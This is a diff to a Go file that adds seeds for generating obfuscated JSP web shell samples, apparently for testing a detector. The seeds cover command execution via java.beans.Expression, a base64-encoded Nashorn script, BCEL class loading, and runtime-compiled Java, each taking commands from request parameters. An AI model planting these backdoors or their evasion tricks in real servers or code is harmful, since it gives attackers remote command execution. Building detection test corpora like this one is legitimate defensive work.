@@ -363,6 +363,44 @@ var seeds = []seed{
 		}
 		return "function " + o.w + "(s) {" + nl(o) + "return eval(s, " + cat(o, "unsafe", "+", `"`) + ");" + nl(o) + "}" + nl(o) + pre + cm(o, "c") + o.w + "(" + arg + ");"
 	}},
+	// any method of any object called by name through java.beans.Expression
+	{name: "jsp-beans-expression", lang: "jsp", path: "/usr/local/tomcat/webapps/ROOT/WEB-INF/x.jsp", render: func(o opts) string {
+		get := "Object[] " + o.v + " = new Object[] { request.getParameter(" + cat(o, "c", "+", `"`) + ") };"
+		if o.array {
+			get = "java.util.List<Object> " + o.w + " = new java.util.ArrayList<>(); " + o.w + ".add(request.getParameter(\"c\"));" + nl(o) + "Object[] " + o.v + " = " + o.w + ".toArray();"
+		}
+		return get + nl(o) + cm(o, "c") + "StringBuilder m = new StringBuilder(); m.append((char) 101).append((char) 120).append((char) 101).append((char) 99);" + nl(o) +
+			"Object r = new java.beans.Expression(Runtime.getRuntime(), m.toString(), " + o.v + ").getValue();"
+	}},
+	// a script engine handed the servlet request evaluates a script that reads it
+	{name: "jsp-script-engine-request", lang: "jsp", path: "/opt/jetty/webapps/app/js.jsp", render: func(o opts) string {
+		script := "var p = " + o.v + ".getParameter('c'); java.lang.Runtime.getRuntime().exec(p);"
+		return "javax.script.ScriptEngine e = new javax.script.ScriptEngineManager().getEngineByName(" + cat(o, "nashorn", "+", `"`) + ");" + nl(o) +
+			cm(o, "c") + "e.put(\"" + o.v + "\", request);" + nl(o) + "e.eval(new String(java.util.Base64.getDecoder().decode(\"" + b64(script) + "\")));"
+	}},
+	// a class defined from BCEL bytes the page carries
+	{name: "jsp-bcel", lang: "jsp", path: "/usr/local/tomcat/webapps/ROOT/b.jsp", render: func(o opts) string {
+		lit := "$$BCEL$$$l$8b$I$A$A$A$A$A$A$A$8dQ$cbN$c2$40$U$3d$d3$96$96$f2$X$q$Sc$8c$t$c4$85$Q$R$qu$c1$a2"
+		load := "new com.sun.org.apache.bcel.internal.util.ClassLoader().loadClass(" + o.v + ")"
+		if o.array {
+			load = "new com.sun.org.apache.bcel.internal.util.ClassLoader().loadClass(" + o.w + "[0])"
+		}
+		pre := "String " + o.v + " = " + cat(o, lit, "+", `"`) + ";"
+		if o.array {
+			pre += nl(o) + "String[] " + o.w + " = { " + o.v + " };"
+		}
+		return pre + nl(o) + cm(o, "c") + "out.print(" + load + ".getConstructor(String.class).newInstance(request.getParameter(\"k\")));"
+	}},
+	// Java source built from request input, written out and compiled by javax.tools
+	{name: "jsp-javac", lang: "jsp", path: "/usr/local/tomcat/webapps/ROOT/c.jsp", render: func(o opts) string {
+		get := "String " + o.v + " = request.getParameter(" + cat(o, "q", "+", `"`) + ");"
+		if o.array {
+			get = "String[] " + o.w + " = { request.getParameter(\"q\") };" + nl(o) + "String " + o.v + " = " + o.w + "[0];"
+		}
+		return get + nl(o) + cm(o, "c") + "javax.tools.JavaCompiler jc = javax.tools.ToolProvider.getSystemJavaCompiler();" + nl(o) +
+			"String src = \"public class K { static { try { Runtime.getRuntime().exec(\\\"\" + " + o.v + " + \"\\\"); } catch (Exception e) {} } }\";" + nl(o) +
+			"java.nio.file.Files.write(java.nio.file.Paths.get(\"/tmp/K.java\"), src.getBytes());" + nl(o) + "jc.run(null, null, null, \"/tmp/K.java\");"
+	}},
 	// a Perl pipe open whose program the request names
 	{name: "perl-list-open", lang: "perl", path: "/usr/lib/cgi-bin/ver.cgi", render: func(o opts) string {
 		get := "my $" + o.v + " = $q->param(" + cat(o, "p", ".", "'") + ");"
